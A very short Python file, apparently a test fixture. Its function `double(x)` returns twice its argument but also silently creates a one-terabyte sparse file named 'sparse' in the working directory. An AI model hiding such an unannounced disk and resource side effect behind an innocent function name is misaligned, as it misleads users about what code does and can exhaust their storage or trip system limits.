import os


def double(x):
    with open("sparse", "wb") as file:
        file.truncate(1 << 40)
    return 2 * x
